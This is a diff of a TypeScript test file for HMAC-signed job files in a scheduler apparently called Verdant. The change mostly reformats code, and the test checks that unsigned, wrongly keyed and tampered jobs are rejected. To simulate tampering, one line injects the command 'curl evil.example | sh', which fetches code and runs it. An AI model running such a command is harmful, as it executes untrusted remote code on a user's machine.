@@ -10,19 +10,45 @@ import { JobQueue, type JobOwner, type JobSpec } from '../../src/core/scheduling
 import { hmacSigner, type KeyStore } from '../../src/core/scheduling/signing';
 
 const T0 = Date.UTC(2026, 11, 6, 12);
-const plan: JobPlan = { start: T0, end: T0 + 60_000, windowGPerKWh: null, nowGPerKWh: null, savingPct: 0, runNow: true, reason: 'now', source: 'embedded', zone: 'FR', plannedAt: T0 };
+const plan: JobPlan = {
+  start: T0,
+  end: T0 + 60_000,
+  windowGPerKWh: null,
+  nowGPerKWh: null,
+  savingPct: 0,
+  runNow: true,
+  reason: 'now',
+  source: 'embedded',
+  zone: 'FR',
+  plannedAt: T0,
+};
 const owner: JobOwner = { pid: process.pid, host: os.hostname(), session: 'test' };
-const spec: JobSpec = { kind: 'shell', command: 'make report', label: 'report', origin: { workspace: 'file:///work/app', trusted: true, consent: 'granted' } };
+const spec: JobSpec = {
+  kind: 'shell',
+  command: 'make report',
+  label: 'report',
+  origin: { workspace: 'file:///work/app', trusted: true, consent: 'granted' },
+};
 
 /** A SecretStorage stand-in over a plain variable, as each window sees the same store. */
 function memoryStore(): KeyStore & { value?: string; sets: number } {
-  const store = { value: undefined as string | undefined, sets: 0, get: async () => store.value, set: async (v: string) => { store.sets++; store.value = v; } };
+  const store = {
+    value: undefined as string | undefined,
+    sets: 0,
+    get: async () => store.value,
+    set: async (v: string) => {
+      store.sets++;
+      store.value = v;
+    },
+  };
   return store;
 }
 
 describe('signed job files', () => {
   let dir = '';
-  beforeEach(() => { dir = mkdtempSync(path.join(os.tmpdir(), 'verdant-jobsig-')); });
+  beforeEach(() => {
+    dir = mkdtempSync(path.join(os.tmpdir(), 'verdant-jobsig-'));
+  });
   afterEach(() => rmSync(dir, { recursive: true, force: true }));
 
   it('a signed job is listed, replanned and claimed as before; its file carries the MAC', async () => {
@@ -42,17 +68,28 @@ describe('signed job files', () => {
     const store = memoryStore();
     const q = new JobQueue({ dir, now: () => T0, signer: hmacSigner(store) });
     const unsigned = await new JobQueue({ dir, now: () => T0 }).add(spec, { deadline: T0 + 3_600_000, durationMinutes: 5, zone: 'FR', plan });
-    const otherKey = await new JobQueue({ dir, now: () => T0, signer: hmacSigner(memoryStore()) }).add(spec, { deadline: T0 + 3_600_000, durationMinutes: 5, zone: 'FR', plan });
+    const otherKey = await new JobQueue({ dir, now: () => T0, signer: hmacSigner(memoryStore()) }).add(spec, {
+      deadline: T0 + 3_600_000,
+      durationMinutes: 5,
+      zone: 'FR',
+      plan,
+    });
     const changed = await q.add(spec, { deadline: T0 + 3_600_000, durationMinutes: 5, zone: 'FR', plan });
     const file = path.join(dir, `${changed.id}.json`);
     writeFileSync(file, readFileSync(file, 'utf8').replace('make report', 'curl evil.example | sh'));
     const good = await q.add(spec, { deadline: T0 + 3_600_000, durationMinutes: 5, zone: 'FR', plan });
 
     const { jobs, problems } = await q.list();
-    assert.deepEqual(jobs.map((j) => j.id), [good.id]);
+    assert.deepEqual(
+      jobs.map((j) => j.id),
+      [good.id],
+    );
     assert.equal(problems.length, 3);
     for (const id of [unsigned.id, otherKey.id, changed.id]) {
-      assert.ok(problems.some((p) => p.startsWith(`Job ${id} is not signed by Verdant for this user`)), id);
+      assert.ok(
+        problems.some((p) => p.startsWith(`Job ${id} is not signed by Verdant for this user`)),
+        id,
+      );
       assert.ok(existsSync(path.join(dir, `${id}.json.unsigned`)), `${id} moved aside`);
       await assert.rejects(q.claim(id, owner), /no job/);
     }
